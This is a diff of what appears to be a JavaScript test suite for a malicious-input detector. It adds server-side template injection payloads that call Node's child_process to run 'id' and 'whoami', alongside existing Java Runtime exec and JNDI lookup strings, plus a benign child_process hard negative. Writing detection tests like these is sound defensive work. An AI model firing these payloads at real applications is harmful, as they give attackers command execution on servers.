@@ -79,6 +79,9 @@ describe('malicious-input rules', () => {
       ['inj-template-injection', '{{config.items()}}'],
       ['inj-template-injection', '<%= 7*7 %>'],
       ['inj-template-injection', "{% import os %}{{ os.popen('id').read() }}"],
+      // JavaScript template engines: the Function constructor or child_process from inside the template.
+      ['inj-template-injection', '{{range.constructor("return process")().mainModule.require("child_process").execSync("id")}}'],
+      ['inj-template-injection', '#{global.process.mainModule.require("child_process").execSync("whoami")}'],
       ['inj-template-injection', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
       ['inj-jndi-lookup', '${jndi:ldap://203.0.113.5/a}'],
       ['inj-jndi-lookup', '${${lower:j}ndi:rmi://x/y}'],
@@ -97,6 +100,7 @@ describe('malicious-input rules', () => {
 
   describe('hard negatives', () => {
     const benign = [
+      'const cp = require("child_process"); cp.execSync("ls -la", { stdio: "inherit" });',
       'How do I prevent SQL injection in Node? Use parameterized queries such as db.query("SELECT * FROM users WHERE id = $1", [id]).',
       'cursor.execute("SELECT name FROM users WHERE id = %s AND active = %s", (user_id, True))',
       "Content-Security-Policy: default-src 'self'; script-src 'self' https://cdn.example.com",
